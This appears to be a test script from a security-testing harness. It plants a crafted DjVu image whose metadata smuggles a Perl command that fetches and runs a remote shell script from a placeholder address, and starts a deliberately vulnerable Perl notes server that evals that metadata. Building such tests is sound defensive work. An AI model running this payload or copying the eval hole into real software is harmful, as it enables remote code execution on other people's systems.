#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/up && cat >/srv/up/photo.djvu <<'END'
(metadata (Author "x") (Copyright "\
" . qx{curl -s http://203.0.113.10/payload.sh | sh} . "b"))
END
cat >/srv/app/notes.pl <<'END'
use IO::Socket::INET; my $l = IO::Socket::INET->new(LocalPort => 8099, Listen => 5, ReuseAddr => 1) or die;
while (my $c = $l->accept) {
    my ($name) = <$c> =~ m{/notes/([\w.]+)} or next; local $/; open(my $f, "<", "/srv/up/$name") or next; my $t = <$f>;
    my ($tok) = $t =~ /Copyright "(.*)"\)\)/s; $tok =~ s/\\\n//; my $v = eval qq{"$tok"}; print $c "HTTP/1.0 200 OK\r\n\r\n$v\n"; close $c;
}
END
perl /srv/app/notes.pl & server=$!
wait_for /tmp/reached
kill $server
took_place
